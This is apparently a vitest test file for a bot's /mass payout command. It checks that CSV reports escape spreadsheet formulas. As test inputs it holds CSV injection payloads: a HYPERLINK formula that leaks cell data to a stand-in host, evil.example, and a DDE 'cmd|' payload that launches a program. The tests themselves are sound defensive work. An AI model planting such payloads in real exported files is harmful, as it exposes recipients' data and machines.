/**
 * The CSV files /mass sends (the report of a job, the list of problems) hold text people typed: a cell
 * a spreadsheet would read as a formula (=, +, -, @, tab, CR first) arrives as text, prefixed with '.
 */
import { parse } from "csv-parse/sync";
import { afterEach, beforeEach, expect, it } from "vitest";
import { Harness } from "../../../helpers/bot-harness.js";
import { ADMIN, fastTuning, flowToConfirm, lastDocument, latestJob, linkedAdmin, recipients, waitDone } from "../../../helpers/mass-flow.js";

const [R1, R2, R3, R4] = [900_011, 900_012, 900_013, 900_014];
const FORMULA = /^[=+\-@\t\r]/;

let h: Harness;
beforeEach(fastTuning);
afterEach(async () => h?.close());

const cells = (csv: string) => (parse(csv) as string[][]).flat();

it("the report of a job carries descriptions as text, never as formulas", async () => {
  h = await Harness.create({ adminIds: [ADMIN] });
  recipients(h, [R1, R2, R3, R4]);
  const admin = await linkedAdmin(h, { USDT: "100" });
  const content = [
    "target,amount,asset,description",
    `${R1},1,USDT,"=HYPERLINK(""https://evil.example/?""&A1,""open"")"`,
    `${R2},1,USDT,+1+cmd|' /C calc'!A0`,
    `${R3},1,USDT,@SUM(A1:A9)`,
    `${R4},1,USDT,-2+3`,
  ].join("\n");
  await flowToConfirm(admin, { fileName: "list.csv", content });
  const job = (await latestJob(h))!;
  await admin.pressLabel(/Confirm/);
  await waitDone(h, job.id);

  const report = lastDocument(h, ADMIN)!;
  expect(report.fileName).toBe(`mass-${job.id}.csv`);
  const rows = parse(report.content) as string[][];
  expect(rows.slice(1).map((r) => r[5])).toEqual([
    `'=HYPERLINK("https://evil.example/?"&A1,"open")`,
    "'+1+cmd|' /C calc'!A0",
    "'@SUM(A1:A9)",
    "'-2+3",
  ]);
  expect(cells(report.content).filter((c) => FORMULA.test(c))).toEqual([]);
});

it("the list of problems quotes offending values as text", async () => {
  h = await Harness.create({ adminIds: [ADMIN] });
  const admin = await linkedAdmin(h, { USDT: "100" });
  await admin.send("/mass");
  await admin.send(Array.from({ length: 25 }, (_, i) => `=cmd${i}(),1,USDT`).join("\n"));
  const file = lastDocument(h, ADMIN)!;
  expect(file.fileName).toBe("mass-errors.csv");
  const rows = parse(file.content) as string[][];
  expect(rows[1]?.[1]).toBe("'=cmd0()");
  expect(cells(file.content).filter((c) => FORMULA.test(c))).toEqual([]);
});
